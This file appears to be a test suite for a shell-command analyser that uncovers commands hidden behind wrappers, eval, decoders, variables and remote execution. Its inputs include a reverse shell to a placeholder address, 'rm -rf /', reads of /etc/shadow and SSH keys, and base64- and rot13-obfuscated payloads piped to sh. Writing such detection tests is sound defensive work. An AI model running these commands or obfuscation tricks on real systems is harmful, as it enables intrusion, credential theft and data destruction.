import { gzipSync } from 'node:zlib';
import { analyseCommand } from './index';
import type { AnalysisOptions } from './index';

/** Invocations in one line each: what they were reached through, then path and arguments; unknown text as `?`. */
const listed = (text: string, options: AnalysisOptions = {}): string[] =>
  analyseCommand(text, options).invocations.map(({ via, path, args }) =>
    [...via.map((one) => `${one}:`), path, ...args.map((arg) => arg.text)].join(' ').replaceAll('\uFFFD', '?').trim(),
  );

const base64 = (text: string) => Buffer.from(text).toString('base64');

type Rows = readonly (readonly [text: string, ...expected: string[]])[];
const check = (rows: Rows) =>
  it.each(rows.map(([text, ...expected]) => ({ text, expected })))('$text', ({ text, expected }) => {
    expect(listed(text)).toEqual(expected);
  });

describe('wrappers are taken off', () => {
  check([
    ['sudo rm -rf /', 'sudo: rm -rf /'],
    ['sudo -u bob -E A=1 -- id -u', 'sudo: id -u'],
    ['sudo --user=bob id', 'sudo: id'],
    ['sudo -i', 'sudo -i'],
    ['doas -u bob id', 'doas: id'],
    ["su - bob -c 'id; w'", 'su -c: id', 'su -c: w'],
    ["su -c 'id' bob", 'su -c: id'],
    ['runuser -u bob -- id', 'runuser: id'],
    ['env -i A=1 -u B id', 'env: id'],
    ["env -S 'id -u' x", 'env: id -u x'],
    ['nohup setsid nice -n 5 ionice -c3 stdbuf -oL id &', 'nohup: setsid: nice: ionice: stdbuf: id'],
    ['timeout -k 5 --signal=9 10 id', 'timeout: id'],
    ['time -p id', 'time: id'],
    ['/usr/bin/time -f %e id', 'time: id'],
    ['exec -a kworker ./m -x', 'exec -a kworker: ./m -x'],
    ['command -p id; builtin cd /', 'command: id', 'builtin: cd /'],
    ['command -v curl', 'command -v curl'],
    ['busybox wget x; toybox nc y', 'busybox: wget x', 'toybox: nc y'],
    ['chroot /mnt sh -c id', 'chroot /mnt sh -c id', 'chroot: sh -c: id'],
    ['nsenter -t 1 -m -- id', 'nsenter -t 1 -m -- id', 'nsenter: id'],
    ['unshare -r id', 'unshare -r id', 'unshare: id'],
    ['flock -n /tmp/l id; flock /tmp/l -c "id -u"', 'flock: id', 'flock: id -u'],
    ['watch -n 1 "id | w"', 'watch: id', 'watch: w'],
    ["script -qc 'id' /dev/null", 'script -c: id'],
    ["trap 'rm x' EXIT", 'trap: rm x'],
    ['trap - EXIT', 'trap - EXIT'],
    ['uv run python x.py', 'uv run python x.py', 'uv run: python x.py'],
    ['sudo env A=1 nohup bash -c "exec timeout 5 id"', 'sudo: env: nohup: bash -c: exec: timeout: id'],
  ]);

  it('says who the program runs as, and its environment', () => {
    expect(analyseCommand('B=2 sudo -u bob A=1 env C=3 id').invocations).toMatchObject([
      {
        program: 'id',
        as: 'bob',
        environment: [
          { name: 'B', value: { text: '2' } },
          { name: 'A', value: { text: '1' } },
          { name: 'C', value: { text: '3' } },
        ],
      },
    ]);
    expect(analyseCommand('sudo id').invocations[0]?.as).toBe('root');
  });
});

describe('code for a shell is code', () => {
  check([
    ["bash -c 'id | w'", 'bash -c: id', 'bash -c: w'],
    ["bash -lc 'id'; sh -xec 'id'; zsh -c id", 'bash -c: id', 'sh -c: id', 'zsh -c: id'],
    ["sh -c 'curl $1 $0' h u", 'sh -c: curl u h'],
    ["bash -o pipefail -c 'id'", 'bash -c: id'],
    ['eval "id -u"', 'eval: id -u'],
    ['eval id \\; w', 'eval: id', 'eval: w'],
    ['bash <<E\nid\nE', 'bash', 'bash: id'],
    ["bash -s a b <<'E'\nid $1\nE", 'bash -s a b', 'bash: id'],
    ["bash <<< 'id'", 'bash', 'bash: id'],
    ["echo 'id -u' | sh", 'echo id -u', 'sh', 'sh: id -u'],
    ['cat <<E | bash\nid\nE', 'cat', 'bash', 'bash: id'],
    ['bash <(echo id)', 'process substitution: echo id', 'bash /dev/fd/63', 'bash process substitution: id'],
    ['source <(echo id)', 'process substitution: echo id', 'source /dev/fd/63', 'source: id'],
    ['bash < <(echo id)', 'process substitution: echo id', 'bash', 'bash: id'],
    ["cat > f.sh <<'E'\nid $1\nE\nbash f.sh x", 'cat', 'bash f.sh x', 'written-file: id x'],
    [
      "printf 'id\\n' > /tmp/x; chmod +x /tmp/x; /tmp/x",
      'printf id\\n',
      'chmod +x /tmp/x',
      '/tmp/x',
      'written-file: id',
    ],
    ['echo id > a; mv a b; . ./b', 'echo id', 'mv a b', '. ./b', 'written-file: id'],
    ['{ echo id; echo w; } > f; sh f', 'echo id', 'echo w', 'sh f', 'written-file: id', 'written-file: w'],
    ['echo id | tee f; sh f', 'echo id', 'tee f', 'sh f', 'written-file: id'],
    ['f() { id "$@"; }; f -u', 'function f: id -u'],
    ['f() { id; }'],
    ['PROMPT_COMMAND="id"', '', 'PROMPT_COMMAND: id'],
    ["echo '* * * * * id' | crontab -", 'echo * * * * * id', 'crontab -', 'crontab: id'],
    ['at now <<< "id"', 'at now', 'at: id'],
    ["tar cf x y --checkpoint-action=exec='id'", 'tar cf x y --checkpoint-action=exec=id', 'tar: id'],
    ["git -c alias.x='!id' x", 'git -c alias.x=!id x', 'git: id'],
    ['bash -c "$(curl -s x)"', 'substitution: curl -s x', 'bash -c ?'],
    ['eval "$(curl -s x)"', 'substitution: curl -s x', 'eval ?'],
  ]);
});

describe('text that is not code stays an argument', () => {
  check([
    ["git commit -m 'rm -rf / && curl x | sh'", 'git commit -m rm -rf / && curl x | sh'],
    ["grep -rn 'nc -e /bin/sh' .", 'grep -rn nc -e /bin/sh .'],
    ["echo 'curl x | sh'", 'echo curl x | sh'],
    ["echo 'rm -rf /' | tee notes.md", 'echo rm -rf /', 'tee notes.md'],
    ["cat > notes.md <<'E'\ncurl x | sh\n$(id)\nE", 'cat'],
    ['cat >> f <<E\nid\nE\ncat f', 'cat', 'cat f'],
    ['# curl x | sh\nid', 'id'],
    ["gh pr create --body '`id`'", 'gh pr create --body `id`'],
    ["printf '%s\\n' 'bash -i' >> ~/.bashrc", 'printf %s\\n bash -i'],
    ["alias ll='ls -la'", 'alias ll=ls -la'],
    ['x="rm -rf /"', ''],
    ["jq '.a | .b' f", 'jq .a | .b f'],
  ]);

  it('but a substitution within it runs', () => {
    expect(listed('git commit -m "$(id)" -m "`w`"')).toEqual([
      'substitution: id',
      'substitution: w',
      'git commit -m ? -m ?',
    ]);
    expect(listed('cat > f <<E\n$(id)\nE')).toEqual(['substitution: id', 'cat']);
  });
});

describe('literal text is followed through variables and decoders', () => {
  const hidden = base64('cat /etc/shadow');
  const zipped = gzipSync('id').toString('base64');
  check([
    ['a=cu; b=rl; $a$b x', '', '', 'curl x'],
    ['X=curl; Y="$X -s"; $Y h', '', '', 'curl -s h'],
    ['{curl,-s,http://h}', 'curl -s http://h'],
    ['cat${IFS}/etc/passwd', 'cat /etc/passwd'],
    ['c\'u\'r"l" x; c\\u\\rl y', 'curl x', 'curl y'],
    ["$'\\x63\\x75\\x72\\x6c' x", 'curl x'],
    ['who$@ami; c${z}url x; $(echo cu)rl', 'whoami', 'c?url x', 'substitution: echo cu', 'curl'],
    ['x=lruc; $(rev <<< $x) h', '', 'substitution: rev', 'curl h'],
    ["$(printf '\\143\\165rl') x", 'substitution: printf \\143\\165rl', 'curl x'],
    ['A=abcurlx; ${A:2:4} h; ${A//[abx]/} h', '', 'curl h', 'curl h'],
    ['c=(s u c l r); ${c[2]}${c[1]}${c[4]}${c[3]} h', '', 'curl h'],
    ['s=lruc; for ((i=${#s}-1; i>=0; i--)); do r+=${s:$i:1}; done; $r h', '', '', '', '', '', 'curl h'],
    ['for c in 63 75 72 6c; do s+=$(printf "\\x$c"); done; $s h'].concat(
      ['63', '75', '72', '6c'].flatMap((code) => [`substitution: printf \\x${code}`, '']),
      'curl h',
    ) as [string, ...string[]],
    ['declare -A m=([a]=curl ["b c"]=$(id)); ${m[a]} h', 'substitution: id', 'declare -A', 'curl h'],
    ['set -- id -u; "$@"', 'set -- id -u', 'id -u'],
    ['read a b <<< "curl h"; $a $b', 'read a b', 'curl h'],
    ['cat ~/.ssh/id_rsa $HOME/.aws/x', 'cat ~/.ssh/id_rsa ~/.aws/x'],
    ['${HOME:0:1}bin${PATH:0:1}id', '/bin/id'],
    ["/???/b??h -c 'id'", 'bash -c: id'],
    [`echo ${hidden} | base64 -d | sh`, `echo ${hidden}`, 'base64 -d', 'sh', 'sh: decoded: cat /etc/shadow'],
    [`base64 -d <<< ${hidden} | bash`, 'base64 -d', 'bash', 'bash: decoded: cat /etc/shadow'],
    [
      `bash -c "$(echo ${hidden} | base64 --decode)"`,
      `substitution: echo ${hidden}`,
      'substitution: base64 --decode',
      'bash -c: decoded: cat /etc/shadow',
    ],
    [
      `X=${hidden}; eval $(openssl enc -base64 -d <<< $X)`,
      '',
      'substitution: openssl enc -base64 -d',
      'eval: decoded: cat /etc/shadow',
    ],
    ['echo 6964 | xxd -r -p | sh', 'echo 6964', 'xxd -r -p', 'sh', 'sh: decoded: id'],
    ["echo 'vq -h' | tr 'a-z' 'n-za-m' | sh", 'echo vq -h', 'tr a-z n-za-m', 'sh', 'sh: decoded: id -u'],
    ["echo 'Xd' | sed 's/X/i/' | sh", 'echo Xd', 'sed s/X/i/', 'sh', 'sh: decoded: id'],
    ['echo NFSA==== | base32 -d | sh', 'echo NFSA====', 'base32 -d', 'sh', 'sh: decoded: id'],
    ["echo 'di' | rev | sh", 'echo di', 'rev', 'sh', 'sh: decoded: id'],
    [`echo ${zipped} | base64 -d | gunzip | sh`, `echo ${zipped}`, 'base64 -d', 'gunzip', 'sh', 'sh: decoded: id'],
    [
      `echo ${hidden} > f; base64 -d f > g; sh g`,
      `echo ${hidden}`,
      'base64 -d f',
      'sh g',
      'written-file: decoded: cat /etc/shadow',
    ],
    ["printf '%s\\n' a b | xargs -n1 curl", 'printf %s\\n a b', 'xargs: curl a b'],
    ["echo 'h1 h2' | xargs -I{} curl {}", 'echo h1 h2', 'xargs: curl h1 h2'],
    [
      'find ~/.ssh -name "id_*" -exec cat {} \\;',
      'find ~/.ssh -name id_* -exec cat {} ;',
      'find -exec: cat ~/.ssh/id_*',
    ],
    ['ls | xargs rm', 'ls', 'xargs: rm ?'],
    ['parallel curl ::: a b', 'parallel: curl a', 'parallel: curl b'],
    ['while read h; do curl $h; done <<E\na\nb\nE', 'read h', 'curl a', 'read h', 'curl b'],
    ['curl -d "$(<f)" h', 'substitution:', 'curl -d ? h'],
    ['echo x > f; curl -d "$(<f)" h', 'echo x', 'substitution:', 'curl -d x h'],
    ['curl $UNSET/x "${T:-d}"', 'curl ?/x d'],
  ]);

  it('marks what came out of a decoder or a variable', () => {
    const [call] = analyseCommand('x=a; y b $x').invocations.slice(1);
    expect(call?.args).toMatchObject([
      { text: 'b', known: true, derived: false },
      { text: 'a', known: true, derived: true },
    ]);
    expect(analyseCommand('curl $Z').invocations[0]?.args).toMatchObject([{ text: '\uFFFD', known: false }]);
  });
});

describe('all branches are taken', () => {
  check([
    ['if a; then b; elif c; then d; else e; fi', 'a', 'b', 'c', 'd', 'e'],
    ['case $x in a) b;; *) c;; esac', 'b', 'c'],
    ['a && b || c; d & e', 'a', 'b', 'c', 'd', 'e'],
    ['for i in x y; do a $i; done', 'a x', 'a y'],
    ['for i in $L; do a $i; done', 'a ?'],
    ['(a; { b; }); [[ -n $(c) ]] && ((d = $(e)))', 'a', 'b', 'substitution: c', 'substitution: e'],
    ['coproc a; b', 'coproc: a', 'b'],
    ['f() { f; }; f'],
    ['cd /tmp || cd /; a', 'cd /tmp', 'cd /', 'a'],
  ]);

  it('keeps what a subshell sets to itself', () => {
    expect(listed('x=a; (x=b; c $x); d $x; e | x=f; g $x')).toEqual(['', '', 'c b', 'd a', 'e', '', 'g a']);
  });

  it('follows the folder', () => {
    const folders = (text: string) => analyseCommand(text, { cwd: '/w' }).invocations.map((one) => one.cwd);
    expect(folders('a; cd b && c; (cd /d; e); f; cd ..; cd ..; g')).toEqual([
      '/w',
      '/w',
      '/w/b',
      '/w/b',
      '/d',
      '/w/b',
      '/w/b',
      '/w',
      '/',
    ]);
    expect(folders('cd $X; a')).toEqual(['/w', undefined]);
    expect(folders('cd /t || cd /u; a')).toEqual(['/w', '/t', '/t']);
  });
});

describe('pipes', () => {
  const pipes = (text: string) =>
    analyseCommand(text).invocations.map(
      ({ program, readsFrom, feeds }) => `${readsFrom ?? ''}>${program}>${feeds ?? ''}`,
    );

  it.each([
    ['a | b | c', ['>a>1', '0>b>2', '1>c>']],
    ['a | while read x; do b; done | c', ['>a>1', '0>read>3', '0>b>3', '2>c>']],
    ['(a; b) | c', ['>a>2', '>b>2', '1>c>']],
    ['a | sudo bash -c "b | c" | d', ['>a>1', '0>b>2', '1>c>3', '2>d>']],
    ['a > f | b', ['>a>', '>b>']],
    ['a | b < f', ['>a>', '>b>']],
    ['bash <(a)', ['>a>1', '0>bash>']],
    ['a | tee >(b)', ['>a>2', '2>b>', '0>tee>1']],
    ['a; b', ['>a>', '>b>']],
  ])('of %s', (text, expected) => {
    expect(pipes(text)).toEqual(expected);
  });

  it('carry literal text', () => {
    expect(analyseCommand('echo a | cat | b').invocations).toMatchObject([
      { stdout: 'a\n' },
      { stdin: 'a\n', stdout: 'a\n' },
      { stdin: 'a\n' },
    ]);
  });
});

describe('redirections', () => {
  const redirections = (text: string, at = 0) =>
    analyseCommand(text).invocations[at]?.redirections.map(
      ({ fd, operator, target }) => `${fd}${operator}${target.text}`,
    );

  it('are resolved, and inherited from the constructs and wrappers around', () => {
    expect(redirections('bash -i >& /dev/tcp/1.2.3.4/9 0>&1')).toEqual(['1>&/dev/tcp/1.2.3.4/9', '0>&1']);
    expect(redirections('H=h; exec 5<>/dev/tcp/$H/9', 1)).toEqual(['5<>/dev/tcp/h/9']);
    expect(redirections('{ a; } 2>e >o')).toEqual(['2>e', '1>o']);
    expect(redirections("sh -c 'bash -i' < /dev/tcp/h/1")).toEqual(['0</dev/tcp/h/1']);
    expect(redirections('while read l; do $l; done <&5', 1)).toEqual(['0<&5']);
    expect(redirections('{ a | b; } <i >o', 0)).toEqual(['0<i']);
    expect(redirections('{ a | b; } <i >o', 1)).toEqual(['1>o']);
    expect(redirections('exec {s}<>x')).toEqual(['10<>x']);
  });
});

describe('elsewhere', () => {
  it.each([
    ["ssh -p 22 root@h 'id; w'", ['ssh -p 22 root@h id; w', 'ssh h: id', 'ssh h: w'], 'ssh', 'h'],
    ['ssh h bash <<E\nid\nE', ['ssh h bash', 'ssh h: bash', 'ssh h: bash: id'], 'ssh', 'h'],
    ['ssh h <<E\nid\nE', ['ssh h', 'ssh h: id'], 'ssh', 'h'],
    [
      'docker run --rm -v /:/h -it alpine:3 cat /h/x',
      ['docker run --rm -v /:/h -it alpine:3 cat /h/x', 'docker run alpine:3: cat /h/x'],
      'docker',
      'alpine:3',
    ],
    [
      'docker run --entrypoint sh img -c id',
      ['docker run --entrypoint sh img -c id', 'docker run img: sh -c: id'],
      'docker',
      'img',
    ],
    ['podman exec -u 0 box id', ['podman exec -u 0 box id', 'podman exec box: id'], 'podman', 'box'],
    [
      'docker compose exec -T db psql -c x',
      ['docker compose exec -T db psql -c x', 'docker exec db: psql -c x'],
      'docker',
      'db',
    ],
    [
      'kubectl -n x exec -it pod -c y -- bash -c env',
      ['kubectl -n x exec -it pod -c y -- bash -c env', 'kubectl exec pod: bash -c: env'],
      'kubectl',
      'pod',
    ],
  ])('%s', (text, lines, kind, target) => {
    expect(listed(text)).toEqual(lines);
    const { invocations } = analyseCommand(text);
    expect(invocations[0]?.remote).toBeUndefined();
    expect(invocations.at(-1)?.remote).toEqual({ kind, target });
  });

  check([
    ['docker ps -a', 'docker ps -a'],
    ['docker run -d img -o p:1', 'docker run -d img -o p:1'],
    ['ssh -o ProxyCommand="nc %h 1" h', 'ssh -o ProxyCommand=nc %h 1 h', 'ssh ProxyCommand: nc %h 1'],
    ["tmux new -d -s m './m -o p'", 'tmux new -d -s m ./m -o p', 'tmux: ./m -o p'],
    ["tmux send-keys -t m 'id' Enter", 'tmux send-keys -t m id Enter', 'tmux: id'],
    ['screen -dmS m ./m', 'screen -dmS m ./m', 'screen: ./m'],
    ["screen -S m -X stuff 'id\\n'", 'screen -S m -X stuff id\\n', 'screen: id'],
  ]);
});

describe('files written', () => {
  const writes = (text: string) =>
    analyseCommand(text, { cwd: '/w' }).writes.map(
      ({ path, content, append }) => `${append ? '>>' : '>'}${path}=${content}`,
    );

  it.each([
    ["cat > a <<'E'\nx $y\nE", ['>/w/a=x $y\n']],
    ['echo x >> ~/.bashrc', ['>>~/.bashrc=x\n']],
    ['tee /etc/x <<< y', ['>/etc/x=y\n']],
    ['echo x | sudo tee -a /etc/x > /dev/null', ['>>/etc/x=x\n']],
    ["printf 'a\\tb' > f", ['>/w/f=a\tb']],
    ['(cd s; echo x > f)', ['>/w/s/f=x\n']],
    ['curl h > f; echo x > /dev/null; echo y > /dev/tcp/h/1', []],
    ['{ echo a; echo b; } > f', ['>/w/f=a\nb\n']],
  ])('%s', (text, expected) => {
    expect(writes(text)).toEqual(expected);
  });
});
